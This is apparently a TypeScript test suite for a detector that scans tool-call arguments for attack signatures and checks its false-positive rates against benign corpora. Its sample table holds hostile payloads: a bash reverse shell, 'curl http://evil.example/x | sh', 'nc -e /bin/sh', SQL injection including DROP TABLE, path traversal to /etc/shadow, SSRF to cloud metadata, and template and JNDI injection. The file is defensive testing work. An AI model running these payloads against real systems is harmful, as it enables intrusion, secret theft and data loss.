// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are texts, not templates.
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { measured } from '../../src/signatures/measured.ts';
import { mostText, scanArguments } from '../../src/signatures/scan.ts';
import { selectSignatures, signatures } from '../../src/signatures/signatures.ts';
import type { JsonObject } from '../../src/values/json.ts';

const all = [...signatures.values()];

function names(args: JsonObject): readonly string[] {
  return scanArguments(args, all).map(({ signature }) => signature.name);
}

const marks: Readonly<Record<string, readonly string[]>> = {
  'traversal-encoded': ['%2e%2e%2fetc', '..%2fetc', '%252e%252e%252f', '..%c0%afx', '%c0%ae%c0%ae/'],
  'traversal-disguised': ['\u2024\u2024/x', '..\u2215x', '\uff0e\uff0e\uff0fx'],
  'traversal-deep': ['../../../../x', '..\\..\\..\\..\\x'],
  'traversal-plain': ['../x'],
  'traversal-to-secret': ['../../etc/passwd', 'file:///etc/shadow', '..\\windows\\win.ini'],
  'sql-tautology': ["' OR 1=1 --", "' or 'a'='a", 'x" OR 7=7'],
  'sql-always-true': ["' || true", "x' or 1<2"],
  'sql-union-probe': ["' UNION SELECT NULL,NULL", '1 union/**/select 1,2', "') UNION ALL SELECT @@version"],
  'sql-stacked': ["'; DROP TABLE users --", '1; DELETE FROM orders'],
  'sql-delay': ["' AND SLEEP(5)", '1; SELECT pg_sleep(5)', "'; WAITFOR DELAY '0:0:5'"],
  'sql-extract': ['extractvalue(1,concat(0x7e,user()))', "' INTO OUTFILE '/x'"],
  'sql-comment-after-quote': ["admin'--"],
  'shell-reverse': ['bash -i >& /dev/tcp/203.0.113.9/1', 'nc -e /bin/sh h 1'],
  'shell-ifs': ['cat${IFS}/etc/hosts', 'cat$IFS$9x'],
  'shell-encoded': ['powershell -enc SQBFAFgA', 'x%0aid'],
  'shell-download-and-run': ['curl http://evil.example/x | sh'],
  'shell-chained-probe': ['main; whoami', 'x | id', '`id`', '$(id)'],
  'shell-substitution': ['$(date)'],
  'shell-chaining': ['a && rm'],
  'ssrf-metadata': ['http://169.254.169.254/', 'http://[fd00:ec2::254]/', 'http://2852039166/'],
  'ssrf-odd-address': [
    'http://0x7f000001/',
    'http://2130706433/',
    'http://0177.0.0.1/',
    'http://[::ffff:127.0.0.1]/',
    'http://a@017700000001',
  ],
  'ssrf-odd-scheme': ['gopher://h/', 'jar:http://h!/'],
  'ssrf-disguised-name': ['http://\u24db\u24de\u24d2al/', 'http://127\u30020\u30020\u30021/'],
  'ssrf-private-address': ['http://localhost/', 'http://10.0.0.1/', 'http://[::1]/', 'http://a:b@127.0.0.1/'],
  'template-arithmetic': ['{{7*7}}', '$' + '{ 3+4 }', '<%= 7 * 7 %>', "{{7*'7'}}"],
  'template-internals': [
    "{{''.__class__.__mro__[1]}}",
    '{{lipsum.__globals__}}',
    "{{ x|attr('__class__') }}",
  ],
  'template-runtime': ['T(java.lang.Runtime).getRuntime().exec("id")', "constructor.constructor('x')()"],
  'template-lookup': ['$' + '{jndi:ldap://h/a}', '$' + '{lower:j}'],
  'template-any': ['{{ x }}'],
  'pollution-path': [
    '__proto__[a]=1',
    'a.__proto__.b',
    'constructor[prototype][a]=1',
    'constructor.prototype.x',
  ],
  'pollution-json': ['{"__proto__":{}}', '{"constructor":{"prototype":{}}}', '{"\\u005f\\u005fproto__":1}'],
  'pollution-assignment': ['Object.prototype.a=1'],
};

const honest = [
  'SELECT a FROM t WHERE 1=1 AND b = 2',
  "WHERE name = 'O''Brien' AND id = 1",
  'SELECT a FROM t UNION ALL SELECT b FROM u',
  "import x from './y.ts';",
  'https://example.com/a/b?c=d&e=%20f#g',
  'https://93.184.216.34/',
  'Dear {{name}}, it costs $' + '{price} *',
  'npm test && npm run build',
  'time.sleep(5)',
  'the constructor of the prototype',
  'Object.prototype.hasOwnProperty.call(a, b)',
  'class A: def __init__(self): self.__class__.__name__',
  'Union members select 1 delegate',
];

describe('signatures', () => {
  it('each have marks in this test', () => {
    expect(Object.keys(marks).sort()).toEqual([...signatures.keys()].sort());
  });

  it.each(Object.entries(marks))('%s notices its marks', (name, texts) => {
    for (const text of texts) expect(names({ text }), text).toContain(name);
  });

  it.each(honest)('those that are on leave alone: %s', (text) => {
    expect(scanArguments({ text }, selectSignatures(undefined))).toEqual([]);
  });

  it.each([
    ['honest', 0],
    ['honest-held-out', 1],
  ] as const)('have the rates that they state, on the corpus %s', (corpus, index) => {
    const calls = readFileSync(new URL(`../../bench/corpora/${corpus}.jsonl`, import.meta.url), 'utf8')
      .trimEnd()
      .split('\n')
      .map((line) => (JSON.parse(line) as { arguments: JsonObject }).arguments);
    const hits = new Map(all.map(({ name }) => [name, 0]));
    for (const args of calls) for (const name of names(args)) hits.set(name, hits.get(name)! + 1);
    expect(calls.length).toBeGreaterThanOrEqual(2_000);
    expect(
      Object.fromEntries([...hits].map(([name, count]) => [name, { hits: count, calls: calls.length }])),
    ).toEqual(Object.fromEntries([...measured].map(([name, rates]) => [name, rates[index]])));
  });

  it('above one honest call in a thousand, on either corpus, are off', () => {
    for (const { name, enabled } of all) {
      const rates = measured.get(name)!;
      expect(enabled, name).toBe(rates.every(({ hits, calls }) => hits / calls <= 0.001));
    }
    expect(all.filter(({ enabled }) => enabled).length).toBeGreaterThan(10);
    expect(all.filter(({ enabled }) => !enabled).length).toBeGreaterThan(10);
  });

  it('are chosen by name', () => {
    expect(selectSignatures(['shell-chaining', 'shell-chaining']).map(({ name }) => name)).toEqual([
      'shell-chaining',
    ]);
    expect(() => selectSignatures(['shell'])).toThrow('there is no signature "shell"');
  });
});

describe('a scan', () => {
  it('names the place where a signature was seen first, and each once', () => {
    const found = scanArguments({ a: ['', { 'b c': '{{7*7}}' }], d: '{{8*8}}' }, [
      signatures.get('template-arithmetic')!,
    ]);
    expect(found.map(({ path }) => path)).toEqual(['a[1].b c']);
  });

  it('looks at so much text and no more', () => {
    const wanted = [signatures.get('template-arithmetic')!];
    expect(scanArguments({ a: 'x'.repeat(mostText - 7), b: '{{7*7}}' }, wanted)).toHaveLength(1);
    expect(scanArguments({ a: 'x'.repeat(mostText), b: '{{7*7}}' }, wanted)).toHaveLength(0);
    expect(scanArguments({ a: `${'x'.repeat(mostText)}{{7*7}}` }, wanted)).toHaveLength(0);
  });

  it('takes whatever JSON can hold', () => {
    fc.assert(
      fc.property(fc.jsonValue(), (value) => {
        for (const { path } of scanArguments(value as never, all))
          expect(path.length).toBeLessThanOrEqual(256);
      }),
    );
  });
});

describe('the documentation', () => {
  it('states for each signature what was measured, and whether it is on', () => {
    const page = readFileSync(new URL('../../docs/signatures.md', import.meta.url), 'utf8');
    const rows = new Map(
      [...page.matchAll(/^\| `([a-z-]+)` \| (on|off) \| (\d+ of \d+) \([^|]*\| (\d+ of \d+) \(/gm)].map(
        ([, name, state, first, heldOut]) => [name!, `${state} ${first} ${heldOut}`],
      ),
    );
    const stated = all.map(({ name, enabled }) => {
      const rates = measured.get(name)!.map(({ hits, calls }) => `${hits} of ${calls}`);
      return [name, `${enabled ? 'on' : 'off'} ${rates.join(' ')}`] as const;
    });
    expect(Object.fromEntries(rows)).toEqual(Object.fromEntries(stated));
  });
});
